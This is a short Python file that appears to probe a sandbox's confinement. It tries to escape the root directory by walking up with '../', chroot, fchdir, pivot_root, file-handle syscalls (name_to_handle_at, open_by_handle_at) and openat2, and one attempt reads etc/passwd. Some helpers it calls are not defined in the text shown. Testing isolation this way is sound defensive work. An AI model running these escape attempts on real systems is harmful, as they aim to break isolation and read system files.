"""Leave the root: by changing it, by walking up, and by handles that need no path."""

# ends: returned []
import os


def climb():
    os.chdir("/" + "../" * 50)
    return open("etc/passwd").read()


def main(bait):
    name = ctypes.create_string_buffer(b"/")
    handle = ctypes.create_string_buffer(256)
    mount = ctypes.c_int()
    return worked(
        climb,
        lambda: os.chroot("/usr"),
        lambda: os.fchdir(os.open("/", os.O_RDONLY)),
        lambda: system(155, 41, name, name),  # pivot_root
        lambda: system(303, 264, -100, name, handle, ctypes.byref(mount), 0),  # name_to_handle_at
        lambda: system(304, 265, 3, handle, 0),  # open_by_handle_at
        lambda: system(437, 437, -100, name, handle, 24),  # openat2
    )
